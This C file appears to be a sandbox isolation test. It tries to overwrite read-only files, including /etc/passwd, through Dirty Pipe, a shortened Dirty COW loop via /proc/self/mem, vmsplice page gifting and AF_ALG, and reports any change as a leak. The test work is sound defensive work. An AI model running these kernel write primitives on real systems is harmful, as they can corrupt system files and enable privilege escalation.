/*
 * threat: A10
 * defence: shared files are read-only; no AF_ALG; and a kernel without the known ways
 * tries: write into pages of read-only files by spliced pipes, private mappings, /proc/self/mem, vmsplice, AF_ALG
 * must: every file reads as before
 * shows: a changed byte, which all later boxes would see
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <unistd.h>
#define SIZE 4096
static char before[SIZE], after[SIZE];
/* A pipe whose buffers were full once: a merging write went into the page of the file (CVE-2022-0847). */
static void by_pipe(int fd, const char *text)
{
    int ends[2];
    static char fill[65536];
    if (pipe(ends) < 0) {
        return;
    }
    fcntl(ends[1], F_SETFL, O_NONBLOCK);
    while (write(ends[1], fill, SIZE) > 0) {
    }
    fcntl(ends[0], F_SETFL, O_NONBLOCK);
    while (read(ends[0], fill, sizeof(fill)) > 0) {
    }
    loff_t at = 0;
    if (splice(fd, &at, ends[1], 0, 1, 0) == 1 && write(ends[1], text, 4) < 0) {
        puts("the pipe takes nothing");
    }
    close(ends[0]);
    close(ends[1]);
}
/* A private copy is written to and thrown away in turns (CVE-2016-5195, without its race's length). */
static void by_mapping(int fd, const char *text)
{
    char *page = mmap(0, SIZE, PROT_READ, MAP_PRIVATE, fd, 0);
    int own = open("/proc/self/mem", O_RDWR);
    for (int i = 0; page != MAP_FAILED && i < 2000; i++) {
        if (own >= 0 && pwrite(own, text, 4, (off_t)page + 1) < 0) {
            break;
        }
        madvise(page, SIZE, MADV_DONTNEED);
    }
    if (page != MAP_FAILED && mprotect(page, SIZE, PROT_READ | PROT_WRITE) == 0) {
        memcpy(page + 1, text, 4);
    }
    if (mmap(0, SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) != MAP_FAILED) {
        puts("LEAK: a shared mapping that can be written to");
    }
    close(own);
}
/* Pages given to a pipe and changed behind its back. */
static void by_gift(int fd)
{
    int ends[2];
    char *page = mmap(0, SIZE, PROT_READ, MAP_PRIVATE, fd, 0);
    struct iovec part = {page, SIZE};
    if (page != MAP_FAILED && pipe(ends) == 0 && vmsplice(ends[1], &part, 1, SPLICE_F_GIFT) > 0) {
        munmap(page, SIZE);
    }
}
int main(void)
{
    static const char *const paths[] = {"/etc/passwd", "/usr/share/common-licenses/GPL-3"};
    if (socket(38 /* AF_ALG */, SOCK_SEQPACKET, 0) >= 0) {
        puts("LEAK: a socket of AF_ALG");
    }
    for (unsigned i = 0; i < sizeof(paths) / sizeof(paths[0]); i++) {
        int fd = open(paths[i], O_RDONLY);
        if (fd < 0) {
            continue;
        }
        ssize_t size = pread(fd, before, SIZE, 0);
        by_pipe(fd, "XXXX");
        by_mapping(fd, "XXXX");
        by_gift(fd);
        if (pread(fd, after, SIZE, 0) != size || memcmp(before, after, SIZE) != 0) {
            printf("LEAK: %s has changed\n", paths[i]);
            by_pipe(fd, before + 1); /* what was there, by the way that worked */
            by_mapping(fd, before + 1);
        }
        close(fd);
    }
    puts("held");
    return 0;
}
